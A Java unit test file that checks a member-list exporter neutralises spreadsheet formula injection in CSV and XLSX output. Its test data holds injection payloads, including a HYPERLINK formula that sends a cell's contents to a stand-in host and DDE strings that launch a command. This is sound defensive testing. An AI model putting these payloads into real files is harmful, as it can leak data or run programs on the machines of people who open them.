package vn.chibo.members.web;

import static org.assertj.core.api.Assertions.assertThat;

import java.io.ByteArrayInputStream;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.util.List;
import org.apache.poi.ss.usermodel.CellType;
import org.apache.poi.xssf.usermodel.XSSFWorkbook;
import org.junit.jupiter.api.Test;
import org.springframework.context.support.StaticMessageSource;

class MemberSheetsTests {

    final MemberSheets sheets = new MemberSheets(messages());

    static StaticMessageSource messages() {
        StaticMessageSource messages = new StaticMessageSource();
        messages.setUseCodeAsDefaultMessage(true);
        return messages;
    }

    static final List<Object> HOSTILE = List.of(
            "=HYPERLINK(\"http://evil.example/?\"&A1,\"Bấm vào đây\")",
            "+84 912 345 678",
            "-2+3+cmd|' /C calc'!A0",
            "@SUM(1+1)*cmd|' /C calc'!A0",
            "\tTab đầu",
            "\rVề đầu dòng",
            "Nguyễn Thị Hương",
            -3,
            "");

    @Test
    void csvCellsThatASpreadsheetWouldRunAsFormulasStartWithAnApostrophe() {
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        sheets.csv(out, List.of("a", "b", "c", "d", "e", "f", "g", "h", "i"), sink -> sink.accept(HOSTILE));
        String csv = out.toString(StandardCharsets.UTF_8);
        String row = csv.substring(csv.indexOf("\r\n") + 2);

        assertThat(row)
                .startsWith("\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"Bấm vào đây\"\")\",")
                .contains(",'+84 912 345 678,")
                .contains(",'-2+3+cmd|' /C calc'!A0,")
                .contains(",'@SUM(1+1)*cmd|' /C calc'!A0,")
                .contains(",'\tTab đầu,")
                .contains(",\"'\rVề đầu dòng\",")
                // Ordinary text and numbers stay as they are.
                .endsWith(",Nguyễn Thị Hương,-3,\r\n");
    }

    @Test
    void xlsxCellsAreTextNeverFormulas() throws IOException {
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        sheets.xlsx(out, List.of("a", "b", "c", "d", "e", "f", "g", "h", "i"), sink -> sink.accept(HOSTILE));
        try (XSSFWorkbook workbook = new XSSFWorkbook(new ByteArrayInputStream(out.toByteArray()))) {
            var row = workbook.getSheetAt(0).getRow(1);
            assertThat(row.getCell(0).getCellType()).isEqualTo(CellType.STRING);
            assertThat(row.getCell(0).getStringCellValue()).startsWith("=HYPERLINK(");
            assertThat(row.getCell(3).getCellType()).isEqualTo(CellType.STRING);
            assertThat(row.getCell(7).getCellType()).isEqualTo(CellType.NUMERIC);
        }
    }
}
